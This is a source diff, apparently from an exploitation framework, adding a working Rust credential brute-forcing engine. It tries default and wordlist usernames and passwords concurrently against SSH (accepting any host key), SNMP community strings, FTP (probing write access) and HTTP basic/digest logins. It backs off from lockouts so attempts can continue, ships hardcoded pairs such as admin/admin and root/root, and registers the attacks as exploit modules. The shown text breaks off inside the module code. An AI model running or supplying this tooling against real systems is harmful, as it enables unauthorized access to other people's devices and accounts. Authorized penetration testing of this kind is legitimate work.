@@ -0,0 +1,1341 @@
+// Credential testing engine - default/weak credential brute forcing
+
+use anyhow::{Result, anyhow};
+use async_trait::async_trait;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+use std::time::Duration;
+use tokio::sync::Semaphore;
+
+use crate::core::exploit::Target;
+use crate::core::net;
+use crate::db::models::{CredentialFinding, DefaultCredential, Protocol};
+use crate::db::redb_client::creds;
+
+/// Tries a single username/password against a target service
+#[async_trait]
+pub trait CredentialTester: Send + Sync {
+    fn protocol(&self) -> Protocol;
+    async fn try_login(&self, target: &Target, username: &str, password: &str) -> Result<bool>;
+}
+
+#[derive(Debug, Clone)]
+pub struct BruteforceConfig {
+    pub threads: usize,
+    /// Per-attempt timeout in seconds
+    pub timeout: u64,
+    /// Stop scheduling attempts once one pair succeeds
+    pub stop_on_success: bool,
+}
+
+impl Default for BruteforceConfig {
+    fn default() -> Self {
+        Self {
+            threads: 8,
+            timeout: 10,
+            stop_on_success: true,
+        }
+    }
+}
+
+/// Parse `username:password` lines, skipping blanks and `#` comments
+pub fn parse_wordlist(contents: &str) -> Vec<(String, String)> {
+    contents
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with('#'))
+        .filter_map(|line| line.split_once(':'))
+        .map(|(user, pass)| (user.to_string(), pass.to_string()))
+        .collect()
+}
+
+/// Split one CSV line, honouring double-quoted fields and `""` escapes
+fn split_csv_line(line: &str) -> Vec<String> {
+    let mut fields = Vec::new();
+    let mut field = String::new();
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                field.push('"');
+                chars.next();
+            }
+            '"' => quoted = !quoted,
+            ',' if !quoted => fields.push(std::mem::take(&mut field)),
+            c => field.push(c),
+        }
+    }
+    fields.push(field);
+    fields
+}
+
+/// Parse `vendor,device,username,password` rows. A header row is skipped.
+pub fn parse_defaults_csv(contents: &str) -> Result<Vec<DefaultCredential>> {
+    let mut defaults = Vec::new();
+
+    for (number, line) in contents.lines().enumerate() {
+        if line.trim().is_empty() {
+            continue;
+        }
+        let fields = split_csv_line(line);
+        if number == 0 && fields[0].trim().eq_ignore_ascii_case("vendor") {
+            continue;
+        }
+        let [vendor, device, username, password] = fields.as_slice() else {
+            return Err(anyhow!("Line {}: expected 4 fields, found {}", number + 1, fields.len()));
+        };
+        defaults.push(DefaultCredential {
+            vendor: vendor.trim().to_string(),
+            device: device.trim().to_string(),
+            username: username.clone(),
+            password: password.clone(),
+        });
+    }
+
+    Ok(defaults)
+}
+
+/// Load default credentials from CSV into the `creds_defaults` table
+pub fn import_defaults_csv(contents: &str) -> Result<usize> {
+    let defaults = parse_defaults_csv(contents)?;
+    for cred in &defaults {
+        creds::insert(cred)?;
+    }
+    Ok(defaults.len())
+}
+
+/// Username/password pairs to try against a device from `vendor`
+pub fn default_pairs(vendor: &str) -> Result<Vec<(String, String)>> {
+    let mut pairs: Vec<(String, String)> = creds::list_by_vendor(vendor)?
+        .into_iter()
+        .map(|c| (c.username, c.password))
+        .collect();
+    pairs.sort();
+    pairs.dedup();
+    Ok(pairs)
+}
+
+/// Try each pair against `target`, at most `config.threads` at a time
+pub async fn bruteforce(
+    tester: Arc<dyn CredentialTester>,
+    target: &Target,
+    pairs: Vec<(String, String)>,
+    config: &BruteforceConfig,
+) -> Result<Vec<CredentialFinding>> {
+    let semaphore = Arc::new(Semaphore::new(config.threads.max(1)));
+    let timeout = Duration::from_secs(config.timeout.max(1));
+    let found = Arc::new(AtomicBool::new(false));
+    let stop_on_success = config.stop_on_success;
+    let mut tasks = Vec::new();
+
+    for (username, password) in pairs {
+        let permit = semaphore.clone().acquire_owned().await?;
+        if stop_on_success && found.load(Ordering::SeqCst) {
+            break;
+        }
+
+        let tester = tester.clone();
+        let target = target.clone();
+        let found = found.clone();
+        tasks.push(tokio::spawn(async move {
+            let _permit = permit;
+            let attempt = tester.try_login(&target, &username, &password);
+            match tokio::time::timeout(timeout, attempt).await {
+                Ok(Ok(true)) => {
+                    found.store(true, Ordering::SeqCst);
+                    tracing::info!("Valid credentials on {}: {}", target, username);
+                    Some(CredentialFinding {
+                        username,
+                        password,
+                        protocol: tester.protocol(),
+                        verified: true,
+                        writable: None,
+                        realm: None,
+                    })
+                }
+                Ok(Ok(false)) => None,
+                Ok(Err(e)) => {
+                    tracing::debug!("Login attempt {} on {} failed: {}", username, target, e);
+                    None
+                }
+                Err(_) => {
+                    tracing::debug!("Login attempt {} on {} timed out", username, target);
+                    None
+                }
+            }
+        }));
+    }
+
+    let mut findings = Vec::new();
+    for task in tasks {
+        if let Some(finding) = task.await? {
+            findings.push(finding);
+        }
+    }
+    Ok(findings)
+}
+
+/// SSH password authentication
+pub mod ssh {
+    use super::*;
+    use russh::client;
+
+    struct AcceptAnyHostKey;
+
+    #[async_trait]
+    impl client::Handler for AcceptAnyHostKey {
+        type Error = russh::Error;
+
+        async fn check_server_key(
+            self,
+            _server_public_key: &russh_keys::key::PublicKey,
+        ) -> Result<(Self, bool), Self::Error> {
+            Ok((self, true))
+        }
+    }
+
+    pub struct SshTester;
+
+    #[async_trait]
+    impl CredentialTester for SshTester {
+        fn protocol(&self) -> Protocol {
+            Protocol::SSH
+        }
+
+        async fn try_login(&self, target: &Target, username: &str, password: &str) -> Result<bool> {
+            let config = Arc::new(client::Config::default());
+            let stream = net::connect(target, 22).await?;
+            let mut session = client::connect_stream(config, stream, AcceptAnyHostKey).await?;
+            let authenticated = session.authenticate_password(username, password).await?;
+            let _ = session
+                .disconnect(russh::Disconnect::ByApplication, "", "en")
+                .await;
+            Ok(authenticated)
+        }
+    }
+}
+
+/// SNMPv1/v2c community strings. A community counts as valid when the
+/// agent answers a GetRequest for sysDescr.0; agents silently drop requests
+/// with a wrong community, so those attempts end at the bruteforce timeout.
+pub mod snmp {
+    use super::*;
+    use tokio::net::UdpSocket;
+
+    pub const SNMP_PORT: u16 = 161;
+
+    /// Communities shipped as defaults on common devices
+    pub const DEFAULT_COMMUNITIES: &[&str] = &["public", "private", "community", "snmp", "admin", "manager", "cisco", "secret"];
+
+    /// sysDescr.0, 1.3.6.1.2.1.1.1.0
+    const SYS_DESCR_OID: &[u8] = &[0x2b, 0x06, 0x01, 0x02, 0x01, 0x01, 0x01, 0x00];
+
+    const TAG_INTEGER: u8 = 0x02;
+    const TAG_OCTET_STRING: u8 = 0x04;
+    const TAG_NULL: u8 = 0x05;
+    const TAG_OID: u8 = 0x06;
+    const TAG_SEQUENCE: u8 = 0x30;
+    const TAG_GET_REQUEST: u8 = 0xa0;
+    const TAG_GET_RESPONSE: u8 = 0xa2;
+
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    pub enum SnmpVersion {
+        V1,
+        V2c,
+    }
+
+    impl SnmpVersion {
+        fn wire(self) -> i64 {
+            match self {
+                SnmpVersion::V1 => 0,
+                SnmpVersion::V2c => 1,
+            }
+        }
+    }
+
+    fn encode_tlv(tag: u8, content: &[u8]) -> Vec<u8> {
+        let mut out = vec![tag];
+        let len = content.len();
+        if len < 0x80 {
+            out.push(len as u8);
+        } else {
+            let bytes: Vec<u8> = len.to_be_bytes().into_iter().skip_while(|b| *b == 0).collect();
+            out.push(0x80 | bytes.len() as u8);
+            out.extend(bytes);
+        }
+        out.extend_from_slice(content);
+        out
+    }
+
+    fn encode_integer(value: i64) -> Vec<u8> {
+        let bytes = value.to_be_bytes();
+        // Minimal two's complement: drop leading bytes that only repeat the sign
+        let mut start = 0;
+        while start < 7
+            && ((bytes[start] == 0x00 && bytes[start + 1] & 0x80 == 0)
+                || (bytes[start] == 0xff && bytes[start + 1] & 0x80 != 0))
+        {
+            start += 1;
+        }
+        encode_tlv(TAG_INTEGER, &bytes[start..])
+    }
+
+    /// GetRequest for sysDescr.0
+    pub fn encode_get_request(version: SnmpVersion, community: &str, request_id: i32) -> Vec<u8> {
+        let varbind = encode_tlv(TAG_SEQUENCE, &[encode_tlv(TAG_OID, SYS_DESCR_OID), encode_tlv(TAG_NULL, &[])].concat());
+        let pdu = encode_tlv(
+            TAG_GET_REQUEST,
+            &[
+                encode_integer(request_id as i64),
+                encode_integer(0),
+                encode_integer(0),
+                encode_tlv(TAG_SEQUENCE, &varbind),
+            ]
+            .concat(),
+        );
+        encode_tlv(
+            TAG_SEQUENCE,
+            &[encode_integer(version.wire()), encode_tlv(TAG_OCTET_STRING, community.as_bytes()), pdu].concat(),
+        )
+    }
+
+    /// Split one TLV off the front of `data`, returning (tag, content, rest)
+    fn read_tlv(data: &[u8]) -> Result<(u8, &[u8], &[u8])> {
+        let (&tag, data) = data.split_first().ok_or_else(|| anyhow!("Truncated SNMP message"))?;
+        let (&first, data) = data.split_first().ok_or_else(|| anyhow!("Truncated SNMP message"))?;
+        let (len, data) = if first & 0x80 == 0 {
+            (first as usize, data)
+        } else {
+            let count = (first & 0x7f) as usize;
+            if count == 0 || count > 4 || data.len() < count {
+                return Err(anyhow!("Invalid SNMP length"));
+            }
+            let len = data[..count].iter().fold(0usize, |len, b| len << 8 | *b as usize);
+            (len, &data[count..])
+        };
+        if data.len() < len {
+            return Err(anyhow!("Truncated SNMP message"));
+        }
+        Ok((tag, &data[..len], &data[len..]))
+    }
+
+    fn read_integer(data: &[u8]) -> Result<(i64, &[u8])> {
+        let (tag, content, rest) = read_tlv(data)?;
+        if tag != TAG_INTEGER || content.is_empty() || content.len() > 8 {
+            return Err(anyhow!("Expected an SNMP integer"));
+        }
+        let sign = if content[0] & 0x80 != 0 { -1i64 } else { 0 };
+        Ok((content.iter().fold(sign, |value, b| value << 8 | *b as i64), rest))
+    }
+
+    /// Whether `response` is a GetResponse to `request_id` sent with `community`
+    pub fn is_response_to(response: &[u8], community: &str, request_id: i32) -> Result<bool> {
+        let (tag, message, _) = read_tlv(response)?;
+        if tag != TAG_SEQUENCE {
+            return Err(anyhow!("Not an SNMP message"));
+        }
+        let (_version, rest) = read_integer(message)?;
+        let (tag, received, rest) = read_tlv(rest)?;
+        if tag != TAG_OCTET_STRING {
+            return Err(anyhow!("Missing SNMP community"));
+        }
+        let (tag, pdu, _) = read_tlv(rest)?;
+        if tag != TAG_GET_RESPONSE {
+            return Ok(false);
+        }
+        let (id, _) = read_integer(pdu)?;
+        Ok(received == community.as_bytes() && id == request_id as i64)
+    }
+
+    /// SNMP is UDP, which neither proxy kind carries. Sending it directly
+    /// would bypass the pivot, so proxied targets are refused.
+    fn refuse_proxy(target: &Target) -> Result<()> {
+        match &target.proxy {
+            Some(proxy) => Err(anyhow!("SNMP can't be sent through the proxy at {}:{}", proxy.host, proxy.port)),
+            None => Ok(()),
+        }
+    }
+
+    /// Tries the password as a community string; the username is ignored
+    pub struct SnmpTester {
+        pub version: SnmpVersion,
+    }
+
+    #[async_trait]
+    impl CredentialTester for SnmpTester {
+        fn protocol(&self) -> Protocol {
+            Protocol::SNMP
+        }
+
+        async fn try_login(&self, target: &Target, _username: &str, community: &str) -> Result<bool> {
+            refuse_proxy(target)?;
+            let ip = net::resolve(&target.host, &target.dns).await?[0];
+            let bind = if ip.is_ipv6() { "[::]:0" } else { "0.0.0.0:0" };
+            let socket = UdpSocket::bind(bind).await?;
+            socket.connect((ip, target.port.unwrap_or(SNMP_PORT))).await?;
+
+            let request_id = rand::random::<i32>() & 0x7fff_ffff;
+            socket.send(&encode_get_request(self.version, community, request_id)).await?;
+
+            let mut buf = vec![0u8; 65535];
+            loop {
+                let len = socket.recv(&mut buf).await?;
+                // Stray datagrams are skipped, not treated as a rejection
+                if is_response_to(&buf[..len], community, request_id).unwrap_or(false) {
+                    return Ok(true);
+                }
+            }
+        }
+    }
+
+    /// Try `communities` over v2c, then over v1 for any v2c didn't accept
+    pub async fn check_communities(
+        target: &Target,
+        communities: &[&str],
+        config: &BruteforceConfig,
+    ) -> Result<Vec<CredentialFinding>> {
+        refuse_proxy(target)?;
+        // Each community is a separate credential, so never stop early
+        let config = BruteforceConfig { stop_on_success: false, ..config.clone() };
+        let mut findings = Vec::new();
+
+        for version in [SnmpVersion::V2c, SnmpVersion::V1] {
+            let pairs: Vec<(String, String)> = communities
+                .iter()
+                .filter(|community| !findings.iter().any(|f: &CredentialFinding| f.password == **community))
+                .map(|community| (String::new(), community.to_string()))
+                .collect();
+            if pairs.is_empty() {
+                break;
+            }
+            findings.extend(bruteforce(Arc::new(SnmpTester { version }), target, pairs, &config).await?);
+        }
+        Ok(findings)
+    }
+}
+
+/// FTP logins, anonymous and password, over plain FTP or explicit TLS
+/// (`AUTH TLS`). Write access is probed by creating and removing a directory.
+pub mod ftp {
+    use super::*;
+    use suppaftp::{AsyncRustlsConnector, AsyncRustlsFtpStream, FtpError};
+
+    pub const FTP_PORT: u16 = 21;
+
+    /// Password sent for anonymous logins, by convention an email address
+    pub const ANONYMOUS_PASSWORD: &str = "anonymous@";
+
+    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+    pub enum FtpSecurity {
+        Plain,
+        /// Upgrade the control connection with `AUTH TLS` before logging in
+        ExplicitTls,
+    }
+
+    /// Server certificate verifier that accepts anything, for
+    /// `accept_invalid_certs`
+    struct AcceptAnyCertificate;
+
+    impl rustls::client::ServerCertVerifier for AcceptAnyCertificate {
+        fn verify_server_cert(
+            &self,
+            _end_entity: &rustls::Certificate,
+            _intermediates: &[rustls::Certificate],
+            _server_name: &rustls::ServerName,
+            _scts: &mut dyn Iterator<Item = &[u8]>,
+            _ocsp_response: &[u8],
+            _now: std::time::SystemTime,
+        ) -> Result<rustls::client::ServerCertVerified, rustls::Error> {
+            Ok(rustls::client::ServerCertVerified::assertion())
+        }
+    }
+
+    /// Connector checking certificates the way the target's TLS options ask,
+    /// like HTTPS does
+    fn tls_connector(tls: &net::TlsOptions) -> Result<AsyncRustlsConnector> {
+        let mut roots = rustls::RootCertStore::empty();
+        roots.add_trust_anchors(webpki_roots::TLS_SERVER_ROOTS.iter().map(|anchor| {
+            rustls::OwnedTrustAnchor::from_subject_spki_name_constraints(anchor.subject, anchor.spki, anchor.name_constraints)
+        }));
+        if let Some(path) = &tls.ca_bundle {
+            let pem = std::fs::read(path).map_err(|e| anyhow!("Can't read CA bundle {}: {}", path, e))?;
+            for certificate in rustls_pemfile::certs(&mut pem.as_slice())? {
+                roots.add(&rustls::Certificate(certificate))?;
+            }
+        }
+        let mut config = rustls::ClientConfig::builder()
+            .with_safe_defaults()
+            .with_root_certificates(roots)
+            .with_no_client_auth();
+        if tls.accept_invalid_certs {
+            config.dangerous().set_certificate_verifier(Arc::new(AcceptAnyCertificate));
+        }
+        Ok(AsyncRustlsConnector::from(async_tls::TlsConnector::from(config)))
+    }
+
+    /// Control connection to `target`, upgraded with `AUTH TLS` if asked.
+    /// It is opened like any other exploit connection, then handed to
+    /// suppaftp.
+    async fn connect(target: &Target, security: FtpSecurity) -> Result<AsyncRustlsFtpStream> {
+        let tcp = net::connect(target, FTP_PORT).await?.into_std()?;
+        let ftp = AsyncRustlsFtpStream::connect_with_stream(async_std::net::TcpStream::from(tcp)).await?;
+        match security {
+            FtpSecurity::Plain => Ok(ftp),
+            FtpSecurity::ExplicitTls => {
+                let name = target.tls.sni.as_deref().unwrap_or(&target.host);
+                Ok(ftp.into_secure(tls_connector(&target.tls)?, name).await?)
+            }
+        }
+    }
+
+    /// Whether the server accepted the pair. Negative replies reject it;
+    /// anything else is an error.
+    async fn login(ftp: &mut AsyncRustlsFtpStream, username: &str, password: &str) -> Result<bool> {
+        match ftp.login(username, password).await {
+            Ok(()) => Ok(true),
+            Err(FtpError::UnexpectedResponse(_)) => Ok(false),
+            Err(e) => Err(e.into()),
+        }
+    }
+
+    /// Create and remove a scratch directory in the login directory
+    async fn can_write(ftp: &mut AsyncRustlsFtpStream) -> Result<bool> {
+        let dir = format!("pyro_{}", uuid::Uuid::new_v4().simple());
+        match ftp.mkdir(&dir).await {
+            Ok(()) => {}
+            Err(FtpError::UnexpectedResponse(_)) => return Ok(false),
+            Err(e) => return Err(e.into()),
+        }
+        if let Err(e) = ftp.rmdir(&dir).await {
+            tracing::warn!("Could not remove FTP probe directory {}: {}", dir, e);
+        }
+        Ok(true)
+    }
+
+    pub struct FtpTester {
+        pub security: FtpSecurity,
+    }
+
+    impl FtpTester {
+        /// Log in and check write access. `None` if the login was rejected.
+        pub async fn probe(&self, target: &Target, username: &str, password: &str) -> Result<Option<bool>> {
+            let mut ftp = connect(target, self.security).await?;
+            let writable = if login(&mut ftp, username, password).await? {
+                Some(can_write(&mut ftp).await?)
+            } else {
+                None
+            };
+            let _ = ftp.quit().await;
+            Ok(writable)
+        }
+    }
+
+    #[async_trait]
+    impl CredentialTester for FtpTester {
+        fn protocol(&self) -> Protocol {
+            match self.security {
+                FtpSecurity::Plain => Protocol::FTP,
+                FtpSecurity::ExplicitTls => Protocol::FTPS,
+            }
+        }
+
+        async fn try_login(&self, target: &Target, username: &str, password: &str) -> Result<bool> {
+            let mut ftp = connect(target, self.security).await?;
+            let authenticated = login(&mut ftp, username, password).await?;
+            let _ = ftp.quit().await;
+            Ok(authenticated)
+        }
+    }
+
+    /// Try anonymous login and then `pairs`, noting write access for every
+    /// successful login
+    pub async fn check_logins(
+        target: &Target,
+        pairs: Vec<(String, String)>,
+        security: FtpSecurity,
+        config: &BruteforceConfig,
+    ) -> Result<Vec<CredentialFinding>> {
+        let tester = Arc::new(FtpTester { security });
+        let mut all = vec![("anonymous".to_string(), ANONYMOUS_PASSWORD.to_string())];
+        all.extend(pairs.into_iter().filter(|(user, _)| !user.eq_ignore_ascii_case("anonymous")));
+
+        let mut findings = bruteforce(tester.clone(), target, all, config).await?;
+        let timeout = Duration::from_secs(config.timeout.max(1));
+        for finding in &mut findings {
+            let probe = tester.probe(target, &finding.username, &finding.password);
+            finding.writable = match tokio::time::timeout(timeout, probe).await {
+                Ok(Ok(writable)) => writable,
+                Ok(Err(e)) => {
+                    tracing::debug!("FTP write check for {} on {} failed: {}", finding.username, target, e);
+                    None
+                }
+                Err(_) => None,
+            };
+        }
+        Ok(findings)
+    }
+}
+
+/// HTTP basic and digest authentication against a protected URL. 429s
+/// and bursts of 403s are treated as lockout: attempts pause with
+/// exponential backoff, honouring `Retry-After`, and the pair is retried.
+pub mod http_auth {
+    use super::*;
+    use lazy_static::lazy_static;
+    use parking_lot::Mutex;
+    use regex::Regex;
+    use reqwest::StatusCode;
+    use reqwest::header::{AUTHORIZATION, RETRY_AFTER, WWW_AUTHENTICATE};
+    use std::collections::HashMap;
+    use std::time::Instant;
+
+    /// Consecutive 403s that count as a lockout rather than a rejection
+    const FORBIDDEN_BURST: u32 = 3;
+    const MAX_BACKOFF: Duration = Duration::from_secs(60);
+    /// Times one pair is retried after being blocked
+    const MAX_RETRIES: u32 = 3;
+
+    #[derive(Debug, Clone, PartialEq, Eq)]
+    pub enum Challenge {
+        Basic { realm: String },
+        Digest { realm: String, params: HashMap<String, String> },
+    }
+
+    impl Challenge {
+        pub fn realm(&self) -> &str {
+            match self {
+                Challenge::Basic { realm } | Challenge::Digest { realm, .. } => realm,
+            }
+        }
+    }
+
+    lazy_static! {
+        static ref AUTH_PARAM: Regex = Regex::new(r#"([A-Za-z0-9_-]+)\s*=\s*(?:"((?:[^"\\]|\\.)*)"|([^\s,]+))"#).unwrap();
+    }
+
+    /// Parse one `WWW-Authenticate` value. Unknown schemes return `None`.
+    pub fn parse_challenge(header: &str) -> Option<Challenge> {
+        let header = header.trim();
+        let (scheme, rest) = header.split_once(char::is_whitespace).unwrap_or((header, ""));
+        let params: HashMap<String, String> = AUTH_PARAM
+            .captures_iter(rest)
+            .map(|caps| {
+                let value = caps.get(2).or_else(|| caps.get(3)).map_or("", |m| m.as_str());
+                (caps[1].to_ascii_lowercase(), value.replace("\\\"", "\""))
+            })
+            .collect();
+        let realm = params.get("realm").cloned().unwrap_or_default();
+
+        if scheme.eq_ignore_ascii_case("basic") {
+            Some(Challenge::Basic { realm })
+        } else if scheme.eq_ignore_ascii_case("digest") && params.contains_key("nonce") {
+            Some(Challenge::Digest { realm, params })
+        } else {
+            None
+        }
+    }
+
+    fn md5_hex(data: &str) -> String {
+        use md5::{Digest, Md5};
+        hex::encode(Md5::digest(data.as_bytes()))
+    }
+
+    /// RFC 2617 digest `response` for MD5 and MD5-sess, with or without qop=auth
+    pub fn digest_response(
+        params: &HashMap<String, String>,
+        method: &str,
+        uri: &str,
+        username: &str,
+        password: &str,
+        cnonce: &str,
+        nc: u32,
+    ) -> String {
+        let realm = params.get("realm").map_or("", String::as_str);
+        let nonce = params.get("nonce").map_or("", String::as_str);
+        let mut ha1 = md5_hex(&format!("{}:{}:{}", username, realm, password));
+        if params.get("algorithm").is_some_and(|a| a.eq_ignore_ascii_case("MD5-sess")) {
+            ha1 = md5_hex(&format!("{}:{}:{}", ha1, nonce, cnonce));
+        }
+        let ha2 = md5_hex(&format!("{}:{}", method, uri));
+        if offers_qop_auth(params) {
+            md5_hex(&format!("{}:{}:{:08x}:{}:auth:{}", ha1, nonce, nc, cnonce, ha2))
+        } else {
+            md5_hex(&format!("{}:{}:{}", ha1, nonce, ha2))
+        }
+    }
+
+    fn offers_qop_auth(params: &HashMap<String, String>) -> bool {
+        params
+            .get("qop")
+            .is_some_and(|qop| qop.split(',').any(|q| q.trim().eq_ignore_ascii_case("auth")))
+    }
+
+    fn authorization(challenge: &Challenge, uri: &str, username: &str, password: &str) -> String {
+        use base64::Engine;
+
+        match challenge {
+            Challenge::Basic { .. } => format!(
+                "Basic {}",
+                base64::engine::general_purpose::STANDARD.encode(format!("{}:{}", username, password))
+            ),
+            Challenge::Digest { realm, params } => {
+                let cnonce = hex::encode(rand::random::<[u8; 8]>());
+                let response = digest_response(params, "GET", uri, username, password, &cnonce, 1);
+                let mut header = format!(
+                    r#"Digest username="{}", realm="{}", nonce="{}", uri="{}", response="{}""#,
+                    username, realm, params["nonce"], uri, response
+                );
+                if offers_qop_auth(params) {
+                    header.push_str(&format!(r#", qop=auth, nc=00000001, cnonce="{}""#, cnonce));
+                }
+                if let Some(opaque) = params.get("opaque") {
+                    header.push_str(&format!(r#", opaque="{}""#, opaque));
+                }
+                if let Some(algorithm) = params.get("algorithm") {
+                    header.push_str(&format!(", algorithm={}", algorithm));
+                }
+                header
+            }
+        }
+    }
+
+    #[derive(Default)]
+    struct Lockout {
+        forbidden: u32,
+        blocked: u32,
+        until: Option<Instant>,
+    }
+
+    pub struct HttpAuthTester {
+        client: reqwest::Client,
+        /// Protected path, e.g. `/` or `/cgi-bin/luci`
+        pub path: String,
+        pub https: bool,
+        /// First backoff after a lockout response, doubled on each repeat
+        pub backoff: Duration,
+        lockout: Mutex<Lockout>,
+        realm: Mutex<Option<String>>,
+    }
+
+    impl HttpAuthTester {
+        /// Tester for `path` on `target`, reached through its proxy and
+        /// with its TLS options
+        pub async fn new(target: &Target, path: &str, https: bool) -> Result<Self> {
+            let client = net::http_client(target).await?
+                .redirect(reqwest::redirect::Policy::none())
+                .build()?;
+            Ok(Self {
+                client,
+                path: if path.starts_with('/') { path.to_string() } else { format!("/{}", path) },
+                https,
+                backoff: Duration::from_secs(5),
+                lockout: Mutex::new(Lockout::default()),
+                realm: Mutex::new(None),
+            })
+        }
+
+        /// Realm from the last challenge seen
+        pub fn realm(&self) -> Option<String> {
+            self.realm.lock().clone()
+        }
+
+        fn url(&self, target: &Target) -> String {
+            net::http_url(target, self.https, &self.path)
+        }
+
+        async fn wait_for_lockout(&self) {
+            let until = self.lockout.lock().until;
+            if let Some(until) = until {
+                tokio::time::sleep_until(until.into()).await;
+            }
+        }
+
+        /// Whether `response` means we're being throttled, recording the backoff if so
+        fn note_response(&self, target: &Target, response: &reqwest::Response) -> bool {
+            let mut lockout = self.lockout.lock();
+            let status = response.status();
+            if status == StatusCode::FORBIDDEN {
+                lockout.forbidden += 1;
+            } else {
+                lockout.forbidden = 0;
+            }
+            if status != StatusCode::TOO_MANY_REQUESTS && lockout.forbidden < FORBIDDEN_BURST {
+                if status != StatusCode::FORBIDDEN {
+                    lockout.blocked = 0;
+                }
+                return false;
+            }
+
+            let retry_after = response
+                .headers()
+                .get(RETRY_AFTER)
+                .and_then(|v| v.to_str().ok())
+                .and_then(|v| v.trim().parse::<u64>().ok())
+                .map(Duration::from_secs);
+            let delay = retry_after
+                .unwrap_or_else(|| self.backoff.saturating_mul(1 << lockout.blocked.min(16)))
+                .min(MAX_BACKOFF);
+            lockout.blocked += 1;
+            lockout.forbidden = 0;
+            lockout.until = Some(Instant::now() + delay);
+            tracing::warn!("{} is throttling logins ({}), backing off {:?}", target, status, delay);
+            true
+        }
+
+        async fn attempt(&self, target: &Target, username: &str, password: &str) -> Result<Option<bool>> {
+            let url = self.url(target);
+            let response = self.client.get(&url).send().await?;
+            if self.note_response(target, &response) {
+                return Ok(None);
+            }
+            if response.status() != StatusCode::UNAUTHORIZED {
+                return Err(anyhow!("{} does not require authentication ({})", url, response.status()));
+            }
+
+            // Prefer digest when the server offers both
+            let challenge = response
+                .headers()
+                .get_all(WWW_AUTHENTICATE)
+                .iter()
+                .filter_map(|v| v.to_str().ok())
+                .filter_map(parse_challenge)
+                .max_by_key(|c| matches!(c, Challenge::Digest { .. }))
+                .ok_or_else(|| anyhow!("{} offers no basic or digest challenge", url))?;
+            *self.realm.lock() = Some(challenge.realm().to_string());
+
+            let response = self
+                .client
+                .get(&url)
+                .header(AUTHORIZATION, authorization(&challenge, &self.path, username, password))
+                .send()
+                .await?;
+            if self.note_response(target, &response) {
+                return Ok(None);
+            }
+            let status = response.status();
+            Ok(Some(status.is_success() || status.is_redirection()))
+        }
+    }
+
+    #[async_trait]
+    impl CredentialTester for HttpAuthTester {
+        fn protocol(&self) -> Protocol {
+            if self.https { Protocol::HTTPS } else { Protocol::HTTP }
+        }
+
+        async fn try_login(&self, target: &Target, username: &str, password: &str) -> Result<bool> {
+            for _ in 0..=MAX_RETRIES {
+                self.wait_for_lockout().await;
+                if let Some(accepted) = self.attempt(target, username, password).await? {
+                    return Ok(accepted);
+                }
+            }
+            Err(anyhow!("{} kept throttling the attempt for {}", target, username))
+        }
+    }
+
+    /// Try `pairs` against the protected `path`, tagging findings with the realm.
+    /// `config.timeout` must leave room for lockout backoff.
+    pub async fn check_logins(
+        target: &Target,
+        path: &str,
+        https: bool,
+        pairs: Vec<(String, String)>,
+        config: &BruteforceConfig,
+    ) -> Result<Vec<CredentialFinding>> {
+        let tester = Arc::new(HttpAuthTester::new(target, path, https).await?);
+        let mut findings = bruteforce(tester.clone(), target, pairs, config).await?;
+        for finding in &mut findings {
+            finding.realm = tester.realm();
+        }
+        Ok(findings)
+    }
+}
+
+/// Default credential modules, registered as built-in exploits. A target
+/// is vulnerable when a common pair or a stored default logs in.
+pub mod modules {
+    use super::*;
+    use crate::core::exploit::{Exploit, ExploitOutcome, Options};
+    use crate::core::import::module_id;
+    use crate::db::models::{ExploitMetadata, Severity};
+
+    /// Pairs tried on every device, before the stored vendor defaults
+    const COMMON_PAIRS: &[(&str, &str)] = &[
+        ("admin", "admin"),
+        ("admin", "password"),
+        ("admin", "1234"),
+        ("root", "root"),
+        ("root", "admin"),
+        ("user", "user"),
+    ];
+
+    /// Common pairs followed by every stored default, without repeats
+    fn default_pairs() -> Result<Vec<(String, String)>> {
+        let mut pairs: Vec<(String, String)> = COMMON_PAIRS
+            .iter()
+            .map(|(username, password)| (username.to_string(), password.to_string()))
+            .collect();
+        for cred in creds::list_all()? {
+            let pair = (cred.username, cred.password);
+            if !pairs.contains(&pair) {
+                pairs.push(pair);
+            }
+        }
+        Ok(pairs)
+    }
+
+    pub struct DefaultCreds {
+        /// Module path of the Python equivalent, which the id derives from
+        path: &'static str,
+        name: &'static str,
+        tester: Arc<dyn CredentialTester>,
+    }
+
+    impl DefaultCreds {
+        async fn attempt(&self, target: &Target, stop_on_success: bool) -> Result<Vec<CredentialFinding>> {
+            let config = BruteforceConfig { stop_on_success, ..BruteforceConfig::default() };
+            bruteforce(self.tester.clone(), target, default_pairs()?, &config).await
+        }
+    }
+
+    /// SSH default credentials
+    pub fn ssh_default() -> Box<dyn Exploit> {
+        Box::new(DefaultCreds {
+            path: "creds/generic/ssh_default",
+            name: "SSH Default Creds",
+            tester: Arc::new(ssh::SshTester),
+        })
+    }
+
+    /// FTP default credentials, over plain FTP
+    pub fn ftp_default() -> Box<dyn Exploit> {
+        Box::new(DefaultCreds {
+            path: "creds/generic/ftp_default",
+            name: "FTP Default Creds",
+            tester: Arc::new(ftp::FtpTester { security: ftp::FtpSecurity::Plain }),
+        })
+    }
+
+    #[async_trait]
+    impl Exploit for DefaultCreds {
+        fn metadata(&self) -> ExploitMetadata {
+            ExploitMetadata {
+                id: module_id(self.path),
+                name: self.name.to_string(),
+                description: format!("Dictionary attack with default credentials against the {:?} service", self.tester.protocol()),
+                authors: vec![],
+                references: vec![],
+                devices: vec![],
+                category: "creds".to_string(),
+                protocol: self.tester.protocol(),
+                severity: Severity::High,
+                verified: true,
+                cryptex_id: None,
+                cvss_vector: None,
+                updated_at: chrono::DateTime::UNIX_EPOCH,
+            }
+        }
+
+        async fn check(&self, target: &Target) -> Result<bool> {
+            Ok(!self.attempt(target, true).await?.is_empty())
+        }
+
+        async fn run(&self, target: &Target, _options: &Options) -> Result<ExploitOutcome> {
+            let findings = self.attempt(target, false).await?;
+            let found: Vec<&str> = findings.iter().map(|finding| finding.username.as_str()).collect();
+            Ok(ExploitOutcome {
+                success: !findings.is_empty(),
+                output: if found.is_empty() {
+                    format!("No default credentials accepted by {}", target)
+                } else {
+                    format!("Default credentials accepted by {} for: {}", target, found.join(", "))
+                },
+                proof: Some(serde_json::to_string(&findings)?),
+            })
+        }
